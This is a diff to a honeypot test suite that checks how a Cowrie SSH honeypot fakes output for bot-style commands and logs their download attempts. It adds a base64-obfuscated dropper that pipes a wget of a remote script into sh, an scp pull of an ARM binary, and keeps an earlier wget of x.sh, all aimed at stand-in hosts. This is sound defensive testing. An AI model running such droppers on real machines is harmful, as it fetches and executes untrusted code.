@@ -9,7 +9,7 @@ const SSH_OPTS = ["-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/d
 const IAC_WILL_ECHO_SGA = Buffer.from([255, 251, 1, 255, 251, 3]);
 
 let relay: Relay;
-let pot: Pot;
+let pot: Pot<"cowrie">;
 
 beforeAll(async () => {
   relay = Relay.start();
@@ -96,6 +96,24 @@ describe("cowrie over SSH, with OpenSSH as the client", () => {
     expect(download).toMatchObject({ ...common("ssh"), message: "Download attempt (not fetched): http://198.51.100.7/x.sh" });
     expect(events.filter((e) => e.eventid === "cowrie.command.input").map((e) => e.input)).toEqual(["uname -a", "cd /tmp", "pwd", "wget http://198.51.100.7/x.sh", "exit"]);
     expect(events.find((e) => e.eventid === "cowrie.client.size")).toMatchObject({ width: expect.any(Number), height: expect.any(Number) });
+  });
+
+  test("bots' tells over OpenSSH: ps aux's BSD columns, enable, a base64 dropper and scp, their downloads recorded", async () => {
+    const dropper = "echo d2dldCBodHRwOi8vMTk4LjUxLjEwMC43L2Ryb3Auc2gK | base64 -d | sh";
+    const r = await ssh("toor", `ps aux | head -n 1; enable | head -n 2; ${dropper}; scp root@198.51.100.8:m.arm /tmp; scp`);
+    expect(r.code).toBe(1); // scp without operands: its usage, status 1
+    expect(r.stdout).toBe("USER         PID %CPU %MEM    VSZ   RSS TTY      STAT START   TIME COMMAND\nenable .\nenable :\n");
+    expect(r.stderr).toMatch(/^--[\d-]+ [\d:]+--  http:\/\/198\.51\.100\.7\/drop\.sh\nConnecting to 198\.51\.100\.7:80\.\.\. failed: Connection refused\.\n/);
+    expect(r.stderr).toEndWith(
+      "ssh: connect to host 198.51.100.8 port 22: Connection refused\r\nscp: Connection closed\r\n" +
+        "usage: scp [-346ABCOpqRrsTv] [-c cipher] [-D sftp_server_path] [-F ssh_config]\n" +
+        "           [-i identity_file] [-J destination] [-l limit] [-o ssh_option]\n" +
+        "           [-P port] [-S program] [-X sftp_option] source ... target\n",
+    );
+    const download = await relay.event("cowrie.session.file_download", { url: "http://198.51.100.7/drop.sh" });
+    const events = await finished(download.session);
+    expect(events.filter((e) => e.eventid === "cowrie.session.file_download").map((e) => e.url)).toEqual(["http://198.51.100.7/drop.sh", "scp://root@198.51.100.8/m.arm"]);
+    expect(events.filter((e) => e.eventid === "cowrie.command.failed")).toEqual([]);
   });
 
   test("keyboard-interactive logins work too, and `ssh host sh` reads commands from stdin", async () => {
